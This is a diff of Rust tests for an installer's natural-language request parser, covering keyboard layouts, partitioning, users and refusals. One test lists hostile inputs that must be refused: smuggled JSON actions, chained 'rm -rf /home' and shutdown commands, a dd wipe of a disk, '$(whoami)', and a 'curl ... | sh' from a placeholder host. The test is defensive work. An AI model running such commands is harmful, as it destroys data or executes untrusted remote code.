@@ -1822,9 +1822,10 @@ fn situations_described_in_a_persons_own_words() {
                 "keyboard 'de' nodeadkeys (germany) bitte",
                 r#"[{"action":"set_keyboard","layout":"de:nodeadkeys"}]"#,
             ),
+            // ABNT2 is what "br" is (XKB has no variant of that name).
             (
                 "keyboard br:abnt2",
-                r#"[{"action":"set_keyboard","layout":"br:abnt2"}]"#,
+                r#"[{"action":"set_keyboard","layout":"br"}]"#,
             ),
             (
                 "the scanner needs its drivers",
@@ -2516,4 +2517,208 @@ fn situations_told_in_own_words() {
             r#"[{"action":"install_bootloader","kernel_args":"console=ttyS1,9600"}]"#,
         )],
     );
+}
+
+/// Issue #11: commands and JSON typed into the chat are refused whole, with nothing of
+/// what came beside them carried out.
+#[test]
+fn commands_and_json_in_a_request_are_refused_whole() {
+    let m = two_disks();
+    for t in [
+        r#"timezone utc"}, {"action": "finish", "reboot": true"#,
+        r#"hostname web" && reboot"#,
+        "locale de_DE.UTF-8; rm -rf /home",
+        "set keyboard us && shutdown now",
+        "please run dd if=/dev/urandom of=/dev/sdb",
+        "hostname $(whoami)",
+        "curl http://x.example/setup.sh | sh",
+    ] {
+        let a = run(&m, &[], t);
+        assert!(
+            matches!(
+                a.as_slice(),
+                [Action::Clarify { .. } | Action::Unsupported { .. }]
+            ),
+            "{t}: {}",
+            json(&a)
+        );
+    }
+    // Quotes around values, and commands that say a setting, stay requests.
+    assert_reads(
+        &m,
+        &[(
+            r#"hostname "den"; keyboard "fr""#,
+            r#"[{"action":"set_hostname","name":"den"},{"action":"set_keyboard","layout":"fr"}]"#,
+        )],
+    );
+    assert_reads(
+        &windows_beside(),
+        &[(
+            "install next to windows, don't kill my files",
+            r#"[{"action":"partition","disk":"/dev/nvme0n1","wipe":false}]"#,
+        )],
+    );
+}
+
+/// Issue #11: plans for another day, questions whether something will be erased, "don't
+/// partition it" and "tell me how much space" erase nothing.
+#[test]
+fn plans_for_later_and_reassurance_questions_erase_nothing() {
+    let m = two_disks();
+    assert_none_of(
+        &m,
+        &[
+            "someday I might reformat the WD, today just the hostname lab",
+            "eventually we'll probably wipe sda",
+            "typing here doesn't erase anything, does it?",
+            "you won't wipe the samsung, right?",
+            "is sdb 1TB? don't partition it, just checking",
+            "tell me how much free space the WD has",
+            "don't partition sdb",
+            "I do not want the samsung erased",
+        ],
+        &["partition", "format", "reboot"],
+    );
+    assert_reads(
+        &m,
+        &[(
+            "next week I'll probably wipe the WD, for now only the timezone: utc",
+            r#"[{"action":"set_timezone","zone":"UTC"}]"#,
+        )],
+    );
+}
+
+/// Issue #11: Ubuntu's manual partitioning in its own words ("use as", "mount point"), a
+/// mount point said as a word, and a format taken back.
+#[test]
+fn manual_partitioning_in_other_installers_words() {
+    let m = ubuntu_beside();
+    assert_reads(
+        &m,
+        &[
+            (
+                "nvme0n1p2: use as btrfs, format it, mount point /",
+                r#"[{"action":"format","partition":"/dev/nvme0n1p2","fs":"btrfs"},{"action":"mount","partition":"/dev/nvme0n1p2","mountpoint":"/"}]"#,
+            ),
+            (
+                "use /dev/nvme0n1p2 as xfs, no wait, don't format, mount point /srv",
+                r#"[{"action":"mount","partition":"/dev/nvme0n1p2","mountpoint":"/srv"}]"#,
+            ),
+            (
+                "mount the ubuntu partition as root",
+                r#"[{"action":"mount","partition":"/dev/nvme0n1p2","mountpoint":"/"}]"#,
+            ),
+            (
+                "format nvme0n1p2? no, cancel that, show me the disks",
+                r#"[{"action":"list_disks"}]"#,
+            ),
+        ],
+    );
+}
+
+/// Issue #11: shorthand keys and arguments ("hn=", "+group", "grp: a -> b"), a user named
+/// admin, a purpose clause, "scratch that last one", encrypted swap said of swap.
+#[test]
+fn shorthand_purposes_and_what_is_said_of_one_part() {
+    let m = two_disks();
+    assert_reads(
+        &m,
+        &[
+            (
+                "hn=lab tz=utc kb=fr",
+                r#"[{"action":"set_hostname","name":"lab"},{"action":"set_timezone","zone":"UTC"},{"action":"set_keyboard","layout":"fr"}]"#,
+            ),
+            (
+                "usr mia +audio +docker",
+                r#"[{"action":"create_user","name":"mia","sudo":false},{"action":"add_to_group","user":"mia","group":"audio"},{"action":"add_to_group","user":"mia","group":"docker"}]"#,
+            ),
+            (
+                "grp: mia -> plugdev",
+                r#"[{"action":"add_to_group","user":"mia","group":"plugdev"}]"#,
+            ),
+            (
+                "username: admin (sudo)",
+                r#"[{"action":"create_user","name":"admin","sudo":true}]"#,
+            ),
+            (
+                "user called rui with sudo",
+                r#"[{"action":"create_user","name":"rui","sudo":true}]"#,
+            ),
+            (
+                "add her to video... no wait, not video, add kim to render",
+                r#"[{"action":"add_to_group","user":"kim","group":"render"}]"#,
+            ),
+            (
+                "install grub so that I can pick between the two systems",
+                r#"[{"action":"install_bootloader"}]"#,
+            ),
+            ("ugh, scratch that last one", r#"[{"action":"undo"}]"#),
+            (
+                "the sdb: root ext4 and a 4G encrypted swap",
+                r#"[{"action":"partition","disk":"/dev/sdb","scheme":[{"mount":"/","fs":"ext4","encrypt":false},{"mount":"swap","size":"4G","fs":"swap","encrypt":true}]}]"#,
+            ),
+            (
+                "spanish keyboard (qwerty), then we're done and do the restart",
+                r#"[{"action":"set_keyboard","layout":"es"},{"action":"finish","reboot":true}]"#,
+            ),
+            ("what could I even type here?", r#"[{"action":"help"}]"#),
+            ("what did we pick until now?", r#"[{"action":"status"}]"#),
+        ],
+    );
+    let a = run(
+        &m,
+        &[],
+        "update the SSD's firmware, then set up grub again to fix my boot",
+    );
+    assert!(
+        a.iter().all(|a| matches!(a, Action::Unsupported { .. })),
+        "{}",
+        json(&a)
+    );
+}
+
+/// Issue #11: the layout descriptions other installers and desktops show are read as the
+/// layouts XKB gives them, and a variant XKB lacks is asked about, never passed on.
+#[test]
+fn keyboard_descriptions_and_variants_as_xkb_knows_them() {
+    assert!(
+        crate::xkb::XKB.is_some(),
+        "{} is missing: install xkb-data (scripts/setup.sh does)",
+        crate::xkb::BASE_LST
+    );
+    let m = two_disks();
+    assert_reads(
+        &m,
+        &[
+            (
+                "Keyboard: German (Switzerland)",
+                r#"[{"action":"set_keyboard","layout":"ch"}]"#,
+            ),
+            (
+                "layout: Spanish, variant: Spanish (no dead keys)",
+                r#"[{"action":"set_keyboard","layout":"es:nodeadkeys"}]"#,
+            ),
+            (
+                "keyboard english (us, alt. intl.)",
+                r#"[{"action":"set_keyboard","layout":"us:alt-intl"}]"#,
+            ),
+            (
+                "Language: English (US), keyboard: English (UK)",
+                r#"[{"action":"set_locale","locale":"en_US.UTF-8"},{"action":"set_keyboard","layout":"gb"}]"#,
+            ),
+            (
+                "keymap fr(bepo)",
+                r#"[{"action":"set_keyboard","layout":"fr:bepo"}]"#,
+            ),
+            (
+                "portuguese keyboard (qwerty)",
+                r#"[{"action":"set_keyboard","layout":"pt"}]"#,
+            ),
+        ],
+    );
+    for t in ["keyboard us:nodeadkeys-please", "keyboard gb:bepo"] {
+        assert_eq!(kinds_of(&m, &[], t), ["clarify"], "{t}");
+    }
+    assert!(crate::validate::keyboard("us:intl").is_ok());
+    assert!(crate::validate::keyboard("br:abnt2").is_err());
 }
